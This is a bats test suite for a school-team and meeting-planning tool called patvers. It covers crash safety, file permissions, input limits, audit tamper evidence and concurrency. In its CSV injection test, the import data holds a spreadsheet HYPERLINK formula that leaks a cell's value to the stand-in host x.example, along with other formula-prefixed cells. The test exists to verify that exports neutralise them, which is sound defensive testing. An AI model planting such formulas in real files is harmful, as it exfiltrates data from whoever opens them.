#!/usr/bin/env bats
# Reliability and security: crash safety, permissions, input limits, CSV injection, tamper evidence, concurrency.

load helper

# ---- helpers ----

# Writes units.csv and people.csv for a roster of N schools, each with its
# own rektor, into DIR.
gen_roster() {
	local dir=$1 n=$2
	awk -v n="$n" 'BEGIN {
		print "id;navn;type;trinn;gruppe"
		for (i = 0; i < n; i++) printf "s%05d;Skole %d;skole;1-7;\n", i, i
	}' >"$dir/units.csv"
	awk -v n="$n" 'BEGIN {
		print "id;navn;epost;tjeneste;rolle;enheter;stedfortreder"
		for (i = 0; i < n; i++)
			printf "p%05d;Person %d;p%d@example.org;s%05d;rektor;;\n", i, i, i, i
	}' >"$dir/people.csv"
}

count() {
	sqlite3 "$PATVERS_DB" "SELECT count(*) FROM $1"
}

# Row counts of the given tables, as one line "unit=… person=…".
counts() {
	local t line=""
	for t in "$@"; do
		line="$line $t=$(count "$t")"
	done
	echo "${line# }"
}

snapshot() {
	cp "$PATVERS_DB" "$BATS_TEST_TMPDIR/snapshot.db"
}

restore() {
	rm -f "$PATVERS_DB" "$PATVERS_DB-wal" "$PATVERS_DB-shm"
	cp "$BATS_TEST_TMPDIR/snapshot.db" "$PATVERS_DB"
}

wal_size() {
	stat -c %s "$PATVERS_DB-wal" 2>/dev/null || echo 0
}

# kill_during WHEN CMD…: runs CMD in the background and sends it SIGKILL
# after WHEN seconds, or with WHEN "wal:BYTES" as soon as the database's
# -wal holds BYTES (the command is then writing or committing). Sets
# $killed to the command's exit status: 137 when the kill landed, 0 when
# the command was done first.
kill_during() {
	local when=$1 pid
	shift
	"$@" >/dev/null 2>&1 &
	pid=$!
	case $when in
	wal:*)
		while kill -0 "$pid" 2>/dev/null && [ "$(wal_size)" -lt "${when#wal:}" ]; do
			sleep 0.005
		done
		;;
	*)
		sleep "$when"
		;;
	esac
	kill -KILL "$pid" 2>/dev/null || true
	killed=0
	wait "$pid" || killed=$?
}

# The counts after a kill ($now) must be those before the command or those
# after a complete run, nothing in between, and the store must check clean.
# patvers opens the database first, so its recovery of the -wal is tested.
all_or_nothing() {
	local before=$1 after=$2
	shift 2
	run pv db check
	echo "db check: $output"
	[ "$status" -eq 0 ]
	now=$(counts "$@")
	echo "before: $before / after: $after / now: $now (exit $killed)"
	[ "$now" = "$before" ] || [ "$now" = "$after" ]
}

# ---- crash safety ----

# kill_and_check BEFORE AFTER TABLES CMD…: kill_during for each of
# $kill_points on a fresh copy of the snapshot, checking all_or_nothing
# each time. Counts in $landed the kills that landed, in $rolled_back
# those that left frames of the unfinished transaction in the -wal (which
# recovery must not replay).
kill_and_check() {
	local before=$1 after=$2 tables=$3 when
	shift 3
	landed=0
	rolled_back=0
	for when in $kill_points; do
		restore
		kill_during "$when" "$@"
		[ "$killed" -eq 137 ] || [ "$killed" -eq 0 ]
		wal=$(wal_size)
		all_or_nothing "$before" "$after" $tables
		[ "$killed" -eq 137 ] || continue
		landed=$((landed + 1))
		[ "$wal" -eq 0 ] || [ "$now" != "$before" ] || rolled_back=$((rolled_back + 1))
	done
	echo "kills landed: $landed, with unfinished frames in the -wal: $rolled_back"
}

@test "SIGKILL during a large team import leaves all of it or none of it" {
	local tables="unit person assignment audit"
	gen_roster "$BATS_TEST_TMPDIR" 4000
	pv init
	snapshot
	# one audit row per unit, person and assignment
	after="unit=4000 person=4000 assignment=4000 audit=12001"
	# while it reads and checks the files, as soon as it writes, and later
	# in the writing or the commit
	kill_points="0.05 wal:1 wal:1 wal:1000000"
	kill_and_check "$(counts $tables)" "$after" "$tables" \
		"$PATVERS_BIN" team import "$BATS_TEST_TMPDIR/units.csv" "$BATS_TEST_TMPDIR/people.csv"
	[ "$landed" -ge 3 ]
	[ "$rolled_back" -ge 1 ]
	# the store takes the whole import after a crash
	restore
	kill_during wal:1 "$PATVERS_BIN" team import \
		"$BATS_TEST_TMPDIR/units.csv" "$BATS_TEST_TMPDIR/people.csv"
	run pv team import "$BATS_TEST_TMPDIR/units.csv" "$BATS_TEST_TMPDIR/people.csv"
	[ "$status" -eq 0 ]
	[ "$(counts $tables)" = "$after" ]
	run pv audit verify
	[ "$status" -eq 0 ]
}

@test "SIGKILL during schedule generate on a big roster leaves the whole plan or none" {
	local tables="meeting meeting_participant audit"
	gen_roster "$BATS_TEST_TMPDIR" 3000
	pv init
	pv team import "$BATS_TEST_TMPDIR/units.csv" "$BATS_TEST_TMPDIR/people.csv" >/dev/null
	pv calendar import "$EXAMPLES/holmestrand/calendar-2026-27.json" >/dev/null
	snapshot
	# two systemmøter a half-year per school, each with its rektor, and
	# one audit row for the plan
	after="meeting=12000 meeting_participant=12000 audit=9003"
	kill_points="0.1 wal:1 wal:1 wal:500000"
	kill_and_check "$(counts $tables)" "$after" "$tables" \
		"$PATVERS_BIN" schedule generate --year 2026/27
	[ "$landed" -ge 2 ]
	[ "$rolled_back" -ge 1 ]
	# and plans in full after one
	restore
	kill_during wal:1 "$PATVERS_BIN" schedule generate --year 2026/27
	run pv schedule generate --year 2026/27
	[ "$status" -eq 0 ]
	[ "$(counts $tables)" = "$after" ]
}

# ---- permissions ----

@test "files a killed writer leaves behind are 0600 even with umask 000" {
	umask 000
	export PATVERS_DB="$BATS_TEST_TMPDIR/private/patvers.db"
	gen_roster "$BATS_TEST_TMPDIR" 4000
	pv init
	[ "$(mode_of "$BATS_TEST_TMPDIR/private")" = 700 ]
	kill_during wal:1 "$PATVERS_BIN" team import \
		"$BATS_TEST_TMPDIR/units.csv" "$BATS_TEST_TMPDIR/people.csv"
	[ "$killed" -eq 137 ]
	[ -f "$PATVERS_DB-wal" ]
	[ "$(mode_of "$PATVERS_DB")" = 600 ]
	[ "$(mode_of "$PATVERS_DB-wal")" = 600 ]
	[ "$(mode_of "$PATVERS_DB-shm")" = 600 ]
	run pv db check
	[ "$status" -eq 0 ]
}

@test "backups are 0600 in a new 0700 folder, and the default store too, with umask 000" {
	umask 000
	pv init
	run pv db backup "$BATS_TEST_TMPDIR/backups/daily/copy.db"
	[ "$status" -eq 0 ]
	[ "$(mode_of "$BATS_TEST_TMPDIR/backups/daily/copy.db")" = 600 ]
	[ "$(mode_of "$BATS_TEST_TMPDIR/backups/daily")" = 700 ]
	[ "$(mode_of "$BATS_TEST_TMPDIR/backups")" = 700 ]
	unset PATVERS_DB
	export XDG_DATA_HOME="$BATS_TEST_TMPDIR/xdg"
	run pv init
	[ "$status" -eq 0 ]
	[ "$(mode_of "$XDG_DATA_HOME/patvers/patvers.db")" = 600 ]
	[ "$(mode_of "$XDG_DATA_HOME/patvers")" = 700 ]
}

@test "a database in a world-writable folder is refused unless the folder is sticky" {
	mkdir "$BATS_TEST_TMPDIR/shared"
	export PATVERS_DB="$BATS_TEST_TMPDIR/shared/patvers.db"
	pv init
	chmod 777 "$BATS_TEST_TMPDIR/shared"
	run pv db check
	[ "$status" -eq 74 ]
	[[ "$output" == *"its folder '$BATS_TEST_TMPDIR/shared' is world-writable"* ]]
	# nothing is created there either
	run pv --db "$BATS_TEST_TMPDIR/shared/other.db" init
	[ "$status" -eq 74 ]
	[ ! -e "$BATS_TEST_TMPDIR/shared/other.db" ]
	# like /tmp: others cannot replace our files there
	chmod 1777 "$BATS_TEST_TMPDIR/shared"
	run pv db check
	[ "$status" -eq 0 ]
}

@test "a world-writable -wal beside the database is refused, the database untouched" {
	pv init
	echo '{"clash_policy":"substitute"}' >"$BATS_TEST_TMPDIR/r.json"
	: >"$PATVERS_DB-wal"
	chmod 666 "$PATVERS_DB-wal"
	run pv rules import "$BATS_TEST_TMPDIR/r.json"
	[ "$status" -eq 74 ]
	[[ "$output" == *"'$PATVERS_DB-wal' is world-writable"* ]]
	rm "$PATVERS_DB-wal"
	run pv --format json rules show
	[[ "$output" == *'"clash_policy": "fail"'* ]]
}

# ---- input limits ----

# peak_kib CMD…: runs CMD and sets $kib to its peak resident memory in
# KiB, $rc to its exit status and $err to its stderr.
peak_kib() {
	rc=0
	# ASan's quarantine keeps freed memory resident by design; without it
	# the sanitizer build measures what the code holds
	ASAN_OPTIONS=${ASAN_OPTIONS:+$ASAN_OPTIONS:}quarantine_size_mb=0 \
		/usr/bin/time -f '%M' -o "$BATS_TEST_TMPDIR/time.out" "$@" >/dev/null \
		2>"$BATS_TEST_TMPDIR/stderr" || rc=$?
	err=$(cat "$BATS_TEST_TMPDIR/stderr")
	kib=$(tail -n 1 "$BATS_TEST_TMPDIR/time.out")
	echo "$* -> exit $rc, $kib KiB (bound $bound KiB)"
}

setup_limits() {
	[ -x /usr/bin/time ] || skip "/usr/bin/time is missing"
	pv init
	bound=0
	peak_kib "$PATVERS_BIN" --version
	# generous: the sanitizer build has a larger heap and shadow memory
	bound=$((kib + 64 * 1024))
}

# 256 MiB of 'x' on one line, as a stream: nothing keeps that much in
# memory unless it reads the whole input.
huge_line() {
	head -c 268435456 /dev/zero | tr '\0' x
}

@test "an overlong field is rejected with its position and bounded memory" {
	setup_limits
	# streamed: refused after 64 KiB
	peak_kib "$PATVERS_BIN" fravaer screen --as-of 2027-01-01 - < <(huge_line)
	[ "$rc" -eq 65 ]
	[[ "$err" == *"<stdin>:1:1: field longer than 65536 bytes"* ]]
	[ "$kib" -lt "$bound" ]
	# a quoted field in a data row
	peak_kib "$PATVERS_BIN" fravaer screen --as-of 2027-01-01 - \
		< <(printf 'student,school,date,type\n"'; huge_line)
	[ "$rc" -eq 65 ]
	[[ "$err" == *"<stdin>:2:1: field longer than 65536 bytes"* ]]
	[ "$kib" -lt "$bound" ]
	# and in a team import
	{ printf 'id;navn;type;trinn;gruppe\nhof;"'; head -c 100000 /dev/zero | tr '\0' x; printf '";skole;1-7;\n'; } \
		>"$BATS_TEST_TMPDIR/units.csv"
	printf 'id;navn;epost;tjeneste;rolle;enheter;stedfortreder\n' >"$BATS_TEST_TMPDIR/people.csv"
	run pv team import "$BATS_TEST_TMPDIR/units.csv" "$BATS_TEST_TMPDIR/people.csv"
	[ "$status" -eq 65 ]
	[[ "$output" == *"units.csv:2:2: field longer than 65536 bytes"* ]]
	# files read whole (team, calendar, rules) stop at 32 MiB
	peak_kib "$PATVERS_BIN" team import - "$BATS_TEST_TMPDIR/people.csv" < <(huge_line)
	[ "$rc" -eq 65 ]
	[[ "$err" == *"'-' is larger than 32 MiB: not a patvers input"* ]]
	[ "$kib" -lt "$((bound + 32 * 1024))" ]
	peak_kib "$PATVERS_BIN" rules import - < <(huge_line)
	[ "$rc" -eq 65 ]
	[[ "$err" == *"larger than 32 MiB"* ]]
	# a plain file that big is refused by its size, unread
	truncate -s 40M "$BATS_TEST_TMPDIR/big.json"
	peak_kib "$PATVERS_BIN" calendar import "$BATS_TEST_TMPDIR/big.json"
	[ "$rc" -eq 65 ]
	[[ "$err" == *"big.json' is larger than 32 MiB"* ]]
	[ "$kib" -lt "$bound" ]
	[ "$(count unit)" -eq 0 ]
	[ "$(count audit)" -eq 1 ]
}

@test "a line with two million separators is rejected with bounded memory" {
	setup_limits
	head -c 2000000 /dev/zero | tr '\0' ';' >"$BATS_TEST_TMPDIR/wide.csv"
	echo >>"$BATS_TEST_TMPDIR/wide.csv"
	peak_kib "$PATVERS_BIN" fravaer screen --as-of 2027-01-01 "$BATS_TEST_TMPDIR/wide.csv"
	[ "$rc" -eq 65 ]
	[[ "$err" == *"wide.csv:1:4097: too many fields in one record"* ]]
	[ "$kib" -lt "$bound" ]
	peak_kib "$PATVERS_BIN" team import "$BATS_TEST_TMPDIR/wide.csv" "$BATS_TEST_TMPDIR/wide.csv"
	[ "$rc" -eq 65 ]
	[[ "$err" == *"wide.csv:1:4097: too many fields in one record"* ]]
	[ "$kib" -lt "$bound" ]
	peak_kib "$PATVERS_BIN" calendar import "$BATS_TEST_TMPDIR/wide.csv"
	[ "$rc" -eq 65 ]
	[[ "$err" == *"wide.csv:1:4097: too many fields in one record"* ]]
	[ "$kib" -lt "$bound" ]
}

@test "deeply nested JSON is rejected with bounded memory" {
	setup_limits
	head -c 100000 /dev/zero | tr '\0' '[' >"$BATS_TEST_TMPDIR/deep.json"
	peak_kib "$PATVERS_BIN" rules import "$BATS_TEST_TMPDIR/deep.json"
	[ "$rc" -eq 65 ]
	[[ "$err" == *"deep.json:1:"*"maximum parsing depth reached"* ]]
	[ "$kib" -lt "$bound" ]
	peak_kib "$PATVERS_BIN" calendar import "$BATS_TEST_TMPDIR/deep.json"
	[ "$rc" -eq 65 ]
	[[ "$err" == *"maximum parsing depth reached"* ]]
	[ "$kib" -lt "$bound" ]
	# the same depth as objects
	awk 'BEGIN { for (i = 0; i < 100000; i++) printf "{\"a\":"; print "1" }' \
		>"$BATS_TEST_TMPDIR/deep-objects.json"
	run pv rules import "$BATS_TEST_TMPDIR/deep-objects.json"
	[ "$status" -eq 65 ]
	[[ "$output" == *"maximum parsing depth reached"* ]]
}

@test "NUL bytes are rejected in CSV and JSON" {
	pv init
	printf 'student,school,date,type\nab\0c,hof,2026-09-01,absent\n' >"$BATS_TEST_TMPDIR/nul.csv"
	run pv fravaer screen --as-of 2027-01-01 "$BATS_TEST_TMPDIR/nul.csv"
	[ "$status" -eq 65 ]
	[[ "$output" == *"nul.csv:2:1: NUL byte in field"* ]]
	printf 'id;navn;type;trinn;gruppe\nhof;Hof\0skole;skole;1-7;\n' >"$BATS_TEST_TMPDIR/units.csv"
	printf 'id;navn;epost;tjeneste;rolle;enheter;stedfortreder\n' >"$BATS_TEST_TMPDIR/people.csv"
	run pv team import "$BATS_TEST_TMPDIR/units.csv" "$BATS_TEST_TMPDIR/people.csv"
	[ "$status" -eq 65 ]
	[[ "$output" == *"units.csv:2:2: NUL byte in field"* ]]
	printf '{"municipality": "Hof\0"}' >"$BATS_TEST_TMPDIR/nul.json"
	run pv rules import "$BATS_TEST_TMPDIR/nul.json"
	[ "$status" -eq 65 ]
	[[ "$output" == *"nul.json:1:"*"control character 0x0"* ]]
	printf '{"municipality": "Hof\\u0000"}' >"$BATS_TEST_TMPDIR/escaped.json"
	run pv rules import "$BATS_TEST_TMPDIR/escaped.json"
	[ "$status" -eq 65 ]
	[[ "$output" == *'escaped.json:1:'*'\u0000 is not allowed'* ]]
	[ "$(count unit)" -eq 0 ]
	[ "$(count audit)" -eq 1 ]
}

@test "invalid UTF-8 is rejected in CSV and JSON" {
	pv init
	# Windows-1252 'å' (0xe5), an overlong '/' and a UTF-16 surrogate
	for bad in '\xe5' '\xc0\xaf' '\xed\xa0\x80'; do
		printf "student,school,date,type\nelev-1,Kjeld${bad}s,2026-09-01,absent\n" \
			>"$BATS_TEST_TMPDIR/latin1.csv"
		run pv fravaer screen --as-of 2027-01-01 "$BATS_TEST_TMPDIR/latin1.csv"
		[ "$status" -eq 65 ]
		[[ "$output" == *"latin1.csv:2:2: not valid UTF-8"*"iconv -f WINDOWS-1252 -t UTF-8"* ]]
	done
	printf 'type;fra;til;enhet;navn\nferie;05.10.2026;09.10.2026;;h\xf8stferie\n' \
		>"$BATS_TEST_TMPDIR/calendar.csv"
	run pv calendar import "$BATS_TEST_TMPDIR/calendar.csv"
	[ "$status" -eq 65 ]
	[[ "$output" == *"calendar.csv:2:5: not valid UTF-8"* ]]
	printf '{"municipality": "Holmestr\xe5nd"}' >"$BATS_TEST_TMPDIR/latin1.json"
	run pv rules import "$BATS_TEST_TMPDIR/latin1.json"
	[ "$status" -eq 65 ]
	[[ "$output" == *"latin1.json:1:"*"unable to decode byte 0xe5"* ]]
	[ "$(count audit)" -eq 1 ]
}

# ---- CSV output injection ----

@test "cells that a spreadsheet would run as formulas are prefixed with a quote" {
	pv init
	cat >"$BATS_TEST_TMPDIR/units.csv" <<-'EOF'
	id;navn;type;trinn;gruppe
	u1;"=HYPERLINK(""http://x.example/?leak=""&A1,""klikk"")";skole;1-7;
	u2;+SUM(A1:A9);skole;1-7;
	u3;-2+3;skole;1-7;
	u4;@cmd;skole;1-7;
	u5;Hof skole;skole;1-7;
	u6;Skole = 1+1;skole;1-7;
	EOF
	printf 'id;navn;epost;tjeneste;rolle;enheter;stedfortreder\np1;=1+2;p1@example.org;u5;rektor;;\n' \
		>"$BATS_TEST_TMPDIR/people.csv"
	pv team import "$BATS_TEST_TMPDIR/units.csv" "$BATS_TEST_TMPDIR/people.csv" >/dev/null
	run pv --format csv team list
	[ "$status" -eq 0 ]
	[[ "$output" == *$'\nu1,"\'=HYPERLINK(""http://x.example/?leak=""&A1,""klikk"")",skole'* ]]
	[[ "$output" == *$'\nu2,\'+SUM(A1:A9),skole'* ]]
	[[ "$output" == *$'\nu3,\'-2+3,skole'* ]]
	[[ "$output" == *$'\nu4,\'@cmd,skole'* ]]
	[[ "$output" == *$'\nu5,Hof skole,skole'* ]]
	[[ "$output" == *$'\nu6,Skole = 1+1,skole'* ]]
	# no cell of the output starts with a formula character
	run grep -E '(^|[,;])"?[=+@-]' <<<"$output"
	[ "$status" -eq 1 ]
	run pv --format csv --excel team list --people
	[ "$status" -eq 0 ]
	[[ "$output" == *";'=1+2;"* ]]
	# the guarded export imports back unchanged
	pv team export "$BATS_TEST_TMPDIR/export" >/dev/null
	run pv team import "$BATS_TEST_TMPDIR/export"
	[ "$status" -eq 0 ]
	[[ "$output" == *"units changed:       0"* ]]
	[ "$(sql "SELECT name FROM unit WHERE slug = 'u2'")" = "+SUM(A1:A9)" ]
}

# ---- tamper evidence ----

setup_audit() {
	pv init
	for i in 1 2 3 4; do
		echo "{\"report\":{\"suppress_below\":$i}}" >"$BATS_TEST_TMPDIR/r$i.json"
		pv rules import "$BATS_TEST_TMPDIR/r$i.json" >/dev/null
	done
	[ "$(count audit)" -eq 5 ]
	run pv audit verify
	[ "$status" -eq 0 ]
	snapshot
}

@test "audit verify names a deleted row" {
	setup_audit
	sql "DELETE FROM audit WHERE id = 3"
	run pv audit verify
	[ "$status" -eq 1 ]
	[[ "$output" == *"audit row 4: row 3 is missing (deleted)"* ]]
	run pv --format json audit verify
	[[ "$output" == *'"first_bad_row": 4'* ]]
	run pv db check
	[ "$status" -eq 1 ]
	[[ "$output" == *"row 3 is missing"* ]]
	# the newest row, where no later row can tell
	restore
	sql "DELETE FROM audit WHERE id = 5"
	run pv audit verify
	[ "$status" -eq 1 ]
	[[ "$output" == *"audit row 5: deleted"* ]]
	# a row deleted and the rest renumbered to hide the gap
	restore
	sql "DELETE FROM audit WHERE id = 3; UPDATE audit SET id = id - 1 WHERE id > 3"
	run pv audit verify
	[ "$status" -eq 1 ]
	[[ "$output" == *"audit row 3: does not follow row 2"* ]]
}

@test "audit verify names a reordered row" {
	setup_audit
	sql "UPDATE audit SET id = -2 WHERE id = 2; UPDATE audit SET id = 2 WHERE id = 3;
	     UPDATE audit SET id = 3 WHERE id = -2"
	run pv audit verify
	[ "$status" -eq 1 ]
	[[ "$output" == *"audit row 2: does not follow row 1 (rows deleted or reordered)"* ]]
	run pv --format json audit verify
	[[ "$output" == *'"first_bad_row": 2'* ]]
	run pv db check
	[ "$status" -eq 1 ]
}

# ---- concurrency ----

# retry CMD…: runs CMD until it exits 0; each exit status is appended to
# $BATS_TEST_TMPDIR/status. Gives up after 100 tries or on a status that
# is neither 0 nor 75 (busy).
retry() {
	local rc tries=0
	while [ "$tries" -lt 100 ]; do
		rc=0
		"$@" >/dev/null 2>>"$BATS_TEST_TMPDIR/stderr" || rc=$?
		echo "$rc" >>"$BATS_TEST_TMPDIR/status"
		[ "$rc" -eq 75 ] || return 0
		tries=$((tries + 1))
		sleep 0.0$((RANDOM % 10))
	done
}

@test "8 concurrent writers: each succeeds or exits 75 and succeeds on retry, nothing lost or doubled" {
	load_holmestrand
	pv schedule generate --year 2026/27 >/dev/null
	# 16 meetings already past (today is pinned to 2026-11-23), two a writer
	mapfile -t meetings < <(sql "SELECT id || ' ' || leader || ' ' || unit FROM meeting
		WHERE date < '2026-11-23' AND status = 'planned' AND leader IS NOT NULL
		ORDER BY id LIMIT 16")
	[ "${#meetings[@]}" -eq 16 ]
	audit_before=$(count audit)
	# a short busy timeout, so some writers are turned away and retry
	export PATVERS_BUSY_TIMEOUT=20
	for w in 1 2 3 4 5 6 7 8; do
		(
			for k in 1 2; do
				read -r id leader unit <<<"${meetings[$((2 * w + k - 3))]}"
				retry "$PATVERS_BIN" log held "$id" --leader "$leader" \
					--case anon:skolevegring --action "$leader|Følge opp|2026-12-15" \
					--experience "Skriver $w, møte $k"
				retry "$PATVERS_BIN" consent add --ref "W$w-2026-0$k" --unit "$unit" \
					--services ppt,barnevern --given-by foresatt --form written \
					--date 2026-09-01
			done
			retry "$PATVERS_BIN" team add-person --home hof -r sosiallaerer \
				"skriver-$w" "Skriver $w" "skriver.$w@example.org"
		) &
	done
	wait
	unset PATVERS_BUSY_TIMEOUT
	echo "exit statuses: $(sort "$BATS_TEST_TMPDIR/status" | uniq -c | tr '\n' ' ')"
	sort "$BATS_TEST_TMPDIR/stderr" | uniq -c | head -5
	# only successes and "busy"; every one of the 40 writes landed, once
	run grep -v -x -e 0 -e 75 "$BATS_TEST_TMPDIR/status"
	[ "$status" -eq 1 ]
	[ "$(grep -c -x 0 "$BATS_TEST_TMPDIR/status")" -eq 40 ]
	[ "$(count meeting_log)" -eq 16 ]
	[ "$(sql "SELECT count(*) FROM meeting WHERE status = 'held'")" -eq 16 ]
	[ "$(count meeting_case)" -eq 16 ]
	[ "$(count meeting_action)" -eq 16 ]
	[ "$(sql "SELECT count(DISTINCT experience) FROM meeting_log")" -eq 16 ]
	[ "$(count consent)" -eq 16 ]
	[ "$(sql "SELECT count(DISTINCT ref) FROM consent")" -eq 16 ]
	[ "$(sql "SELECT count(*) FROM person WHERE slug LIKE 'skriver-_'")" -eq 8 ]
	# one audit row per log and per consent, two per person (added, assigned)
	[ "$(sql "SELECT count(*) FROM audit WHERE entity = 'meeting-log'")" -eq 16 ]
	[ "$(sql "SELECT count(*) FROM audit WHERE entity = 'consent'")" -eq 16 ]
	[ "$(count audit)" -eq $((audit_before + 16 + 16 + 16)) ]
	run pv db check
	[ "$status" -eq 0 ]
	run pv audit verify
	[ "$status" -eq 0 ]
}
